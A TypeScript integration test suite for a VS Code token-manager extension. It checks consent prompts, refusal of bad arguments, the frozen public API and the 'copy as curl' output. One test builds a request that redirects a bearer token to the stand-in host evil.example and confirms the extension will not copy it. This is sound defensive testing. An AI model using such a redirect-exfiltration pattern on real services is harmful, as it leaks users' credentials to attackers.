import assert from 'node:assert/strict';
import { setTimeout as delay } from 'node:timers/promises';
import { inspect } from 'node:util';
import * as vscode from 'vscode';
import type { ValetKeyApi } from '../../src/api';
import { authenticationProvider, commands } from '../../src/vscode/ids';
import { eventually } from '../support/eventually';
import { watchMessages, type ShownMessages } from '../support/extensionHost/messages';
import {
  askDemoApi,
  copiedAccessToken,
  copiedBy,
  serviceProfile,
  writeProfileAndMoveSecret,
  writeProfiles,
} from '../support/extensionHost/profiles';
import { findSecrets, forgetSecrets, registerSecret } from '../support/secrets';
import { readSuiteEnvironment } from '../support/suiteEnvironment';

/** What gets, takes or shows a token; not what opens the settings or waits in a list of its own. */
const tokenCommands =
  /\.(access|copy|getNewAccessToken$|insert|refresh|use|showTokenDetails|showUserInfo|introspect|saveTokenAgain|compareTokenWith)/;

/** What keeps VS Code from running a task without its token. */
const refusal = /No token was given, so nothing was started with it\./;

type Asking = Record<'showWarningMessage' | 'showQuickPick' | 'showInputBox', unknown>;

/** Answers every question with the same; what a person would choose here cannot be clicked. */
function answering(answer: string | undefined): () => void {
  const window = vscode.window as unknown as Asking;
  const { showWarningMessage, showQuickPick, showInputBox } = window;
  window.showWarningMessage = (message: string) => {
    questions.push(message);
    return Promise.resolve(answer);
  };
  window.showQuickPick = () => Promise.resolve(undefined);
  window.showInputBox = () => Promise.resolve(undefined);
  return () => Object.assign(window, { showWarningMessage, showQuickPick, showInputBox });
}
let questions: string[] = [];

async function api(): Promise<ValetKeyApi> {
  const extension = vscode.extensions.getExtension<ValetKeyApi>('valetkey.valet-key');
  return (await extension?.activate()) ?? assert.fail('VS Code does not know valetkey.valet-key');
}

describe('tokens for tasks and other extensions', () => {
  let messages: ShownMessages;
  let restore = (): void => undefined;

  before(async () => {
    const { clientSecret } = readSuiteEnvironment().clients.service;
    await writeProfileAndMoveSecret('outlet', serviceProfile(), clientSecret);
    await vscode.commands.executeCommand(commands.getNewAccessToken, 'outlet');
  });
  beforeEach(() => {
    messages = watchMessages();
    questions = [];
  });
  afterEach(() => {
    restore();
    restore = () => undefined;
    messages.stop();
  });
  after(async () => {
    forgetSecrets();
    await writeProfiles(undefined);
  });

  it('L9: nothing is returned by any command that has a token in hand, while the person allows nothing', async () => {
    registerSecret(await copiedAccessToken('outlet'));
    restore = answering(undefined);
    const given: Record<string, unknown> = {};
    for (const command of Object.values(commands).filter((id) => tokenCommands.test(id))) {
      // Some show a list that nobody chooses from: those give nothing.
      const call = vscode.commands
        .executeCommand(command, 'outlet')
        .then(undefined, (error: unknown) => error);
      given[command] = await Promise.race([call, delay(5_000, 'waits')]);
    }
    await vscode.commands.executeCommand('workbench.action.closeQuickOpen');
    await vscode.commands.executeCommand('workbench.action.closeAllEditors');
    // Some of them get a token; it must not be in what the others gave either.
    registerSecret(await copiedAccessToken('outlet'));
    assert.ok(Object.keys(given).length > 10, inspect(given));
    assert.deepEqual(findSecrets(inspect(given, { depth: null, showHidden: true })), []);
    assert.match(String(given[commands.accessToken]), refusal);
    assert.deepEqual(
      questions.filter((text) =>
        text.startsWith('A task or another extension asks for the token of “outlet”'),
      ),
      questions.slice(0, 1),
    );
  });

  for (const args of [['outlet'], 7, { profile: 'outlet', as: 'secret' }, { profile: 'nobody' }]) {
    it(`L9: ${inspect(args)} for args is refused with one clear message`, async () => {
      restore = answering('Allow');
      const asked = Promise.resolve(vscode.commands.executeCommand(commands.accessToken, args));
      await assert.rejects(asked, refusal);
      assert.equal(messages.errors.length, 1, messages.errors.join('\n'));
      assert.deepEqual(questions, []);
    });
  }

  it('R10: a task’s input gets the token once the person has allowed it, and its header', async () => {
    restore = answering('Allow');
    const token = await vscode.commands.executeCommand(commands.accessToken, { profile: 'outlet' });
    assert.equal(await askDemoApi(`Bearer ${String(token)}`), 200);
    const header = await vscode.commands.executeCommand(commands.accessToken, {
      profile: 'outlet',
      as: 'header',
    });
    assert.equal(header, `Authorization: Bearer ${String(token)}`);
    assert.equal(questions.length, 1);
    // Whoever asks through the API is no less unknown.
    assert.equal((await (await api()).getAccessToken('outlet'))?.accessToken, token);
  });

  it('R11: the API is one frozen object, which says what there is', async () => {
    const given = await api();
    assert.ok(Object.isFrozen(given));
    assert.equal(given.version, 1);
    assert.deepEqual(await given.profiles(), [{ name: 'outlet', hasToken: true }]);
    let changes = 0;
    const subscription = given.onDidChangeTokens(() => {
      changes += 1;
      throw new Error('of another extension');
    });
    await vscode.commands.executeCommand(commands.getNewAccessToken, 'outlet');
    subscription.dispose();
    assert.ok(changes > 0);
    assert.equal(await askDemoApi(`Bearer ${await copiedAccessToken('outlet')}`), 200);
  });

  it('R11: each profile with a token is an account of VS Code’s', async () => {
    await eventually('the account', async () => {
      const accounts = await vscode.authentication.getAccounts(authenticationProvider);
      return accounts.some(({ id, label }) => id === 'outlet' && label === 'outlet');
    });
    // VS Code has not asked the person whether this extension may have it.
    const session = await vscode.authentication.getSession(authenticationProvider, ['profile:outlet'], {
      silent: true,
    });
    assert.equal(session, undefined);
  });

  it('R1: a token is copied as a curl command, and so is the request at the cursor', async () => {
    const command = await copiedBy(commands.copyAsCurl, 'outlet');
    const token = await copiedAccessToken('outlet');
    assert.equal(command, `curl \\\n  --url 'https://…' \\\n  --header 'Authorization: Bearer ${token}'`);
    const { apiUrl } = readSuiteEnvironment();
    const document = await vscode.workspace.openTextDocument({
      language: 'http',
      content: `@api = ${apiUrl}\n\n# @valetkey outlet\nGET {{api}}/orders\nAuthorization: Bearer {{$processEnv VALET_KEY_OUTLET}}\n`,
    });
    const editor = await vscode.window.showTextDocument(document);
    editor.selection = new vscode.Selection(3, 0, 3, 0);
    const window = vscode.window as unknown as Asking;
    const { showWarningMessage } = window;
    // Where the profile may send it.
    window.showWarningMessage = (_message: string, _options: unknown, ...choices: unknown[]) =>
      Promise.resolve(choices[0]);
    restore = () => Object.assign(window, { showWarningMessage });
    // By the palette, and by the editor's menu, which gives its file.
    for (const given of [undefined, document.uri]) {
      await vscode.env.clipboard.writeText('nothing was copied');
      await vscode.commands.executeCommand(commands.copyAsCurl, given);
      assert.equal(
        await vscode.env.clipboard.readText(),
        `curl \\\n  --url '${apiUrl}/orders' \\\n  --header 'Authorization: Bearer ${token}'`,
      );
    }
    await vscode.commands.executeCommand('workbench.action.revertAndCloseActiveEditor');
  });

  it('L16: no request with a token in its address is copied: the server may lead it anywhere', async () => {
    const { apiUrl } = readSuiteEnvironment();
    for (const reference of ['{{$processEnv VALET_KEY_OUTLET}}', '{{$auth.token("outlet")}}']) {
      const document = await vscode.workspace.openTextDocument({
        language: 'http',
        content: `GET ${apiUrl}/redirect?to=https://evil.example/%3Ft=${reference}\nAuthorization: Bearer ${reference}\n`,
      });
      await vscode.window.showTextDocument(document);
      await vscode.env.clipboard.writeText('nothing was copied');
      const before = messages.errors.length;
      await vscode.commands.executeCommand(commands.copyAsCurl);
      assert.equal(await vscode.env.clipboard.readText(), 'nothing was copied');
      const [error = '', ...more] = messages.errors.slice(before);
      assert.match(error, /The token of “outlet” stands in the address of this request.*was not copied/);
      assert.match(error, /Write “Authorization: valetkey outlet” instead/);
      assert.deepEqual(more, []);
      await vscode.commands.executeCommand('workbench.action.revertAndCloseActiveEditor');
    }
  });
});
